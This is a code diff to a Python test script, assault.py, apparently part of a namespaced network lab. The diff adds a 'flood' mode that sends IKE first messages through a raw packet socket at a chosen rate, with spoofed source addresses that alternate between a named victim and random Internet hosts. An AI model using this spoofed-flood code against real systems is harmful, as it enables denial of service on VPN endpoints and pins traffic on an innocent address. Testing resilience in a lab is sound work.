@@ -2,19 +2,22 @@
 """Sends what attackers send, at a chosen rate. Runs inside a scene's namespace.
 
     assault.py malformed PORT MAC PCAP TARGET PER_SECOND COUNT SEED   real messages, damaged in all ways
+    assault.py flood PORT MAC TARGET VICTIM PER_SECOND SECONDS          first messages, by VICTIM and by anybody
     assault.py probe SOURCE TARGET SECONDS                            an honest client, once a second
 
-Attackers' frames are made ahead and leave by a packet socket, so any source address can be claimed. The first
-line printed says how many frames there are; the second, at the end, how many left in how many seconds.
+Attackers' frames leave by a packet socket, so any source address can be claimed. The first line printed says
+how many frames there are; the second, at the end, how many left in how many seconds.
 """
 
 from __future__ import annotations
 
+import itertools
 import random
 import socket
 import struct
 import sys
 import time
+from collections.abc import Iterator
 
 HEADER = 28
 EXCHANGES = (0, 1, 2, 3, 4, 5, 6, 32, 33, 34, 255)
@@ -104,15 +107,15 @@ def damaged(message: bytes, rng: random.Random) -> bytes:
     return message[:8] + rng.randbytes(8) + message[16:]
 
 
-def send(port: str, frames: list[bytes], per_second: int) -> None:
+def send(port: str, frames: Iterator[bytes], count: int, per_second: int) -> None:
     with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
         wire.bind((port, 0))
-        print(len(frames), flush=True)
+        print(count, flush=True)
         start = time.monotonic()
         sent = lost = 0
-        while sent < len(frames):
-            due = min(len(frames), int((time.monotonic() - start) * per_second) + 1)
-            for octets in frames[sent:due]:
+        while sent < count:
+            due = min(count, int((time.monotonic() - start) * per_second) + 1)
+            for octets in itertools.islice(frames, due - sent):
                 try:
                     wire.send(octets)
                 except OSError:
@@ -138,7 +141,7 @@ def malformed(port: str, mac: str, pcap: str, target: str, per_second: str, coun
         udp_port, message = rng.choice(messages)
         source = peer if rng.randrange(4) == 0 else rng.choice(others)
         frames.append(frame(hardware, own, source, aim, udp_port, damaged(message, rng)))
-    send(port, frames, int(per_second))
+    send(port, iter(frames), len(frames), int(per_second))
 
 
 def first_message(cookie: int) -> bytes:
@@ -151,6 +154,26 @@ def first_message(cookie: int) -> bytes:
     body = struct.pack("!II", 1, 1) + proposal
     payload = struct.pack("!BBH", 0, 0, 4 + len(body)) + body
     return with_length(struct.pack("!QQBBBBII", cookie, 0, 1, 0x10, 2, 0, 0, 0) + payload)
+
+
+def first_frames(mac: bytes, own: bytes, target: bytes, victim: bytes) -> Iterator[bytes]:
+    """Every other one from the victim, the rest from all over the Internet; every cookie another."""
+    rng = random.Random(1)
+    octets = bytearray(frame(mac, own, bytes(4), target, 500, first_message(0)))
+    without_source = ~struct.unpack_from("!H", octets, 24)[0] & 0xFFFF
+    for cookie in itertools.count(rng.randrange(1 << 60)):
+        source = victim if cookie & 1 else bytes((rng.randrange(11, 127), *rng.randbytes(3)))
+        total = without_source + int.from_bytes(source[:2], "big") + int.from_bytes(source[2:], "big")
+        total = (total & 0xFFFF) + (total >> 16)
+        struct.pack_into("!H4s", octets, 24, ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF, source)
+        struct.pack_into("!Q", octets, 42, cookie)
+        yield octets
+
+
+def flood(port: str, mac: str, target: str, victim: str, per_second: str, seconds: str) -> None:
+    hardware, rate = bytes.fromhex(mac.replace(":", "")), int(per_second)
+    frames = first_frames(hardware, own_mac(port), socket.inet_aton(target), socket.inet_aton(victim))
+    send(port, frames, rate * int(seconds), rate)
 
 
 def probe(source: str, target: str, seconds: str) -> None:
@@ -174,4 +197,4 @@ def probe(source: str, target: str, seconds: str) -> None:
 
 
 if __name__ == "__main__":
-    {"malformed": malformed, "probe": probe}[sys.argv[1]](*sys.argv[2:])
+    {"malformed": malformed, "flood": flood, "probe": probe}[sys.argv[1]](*sys.argv[2:])
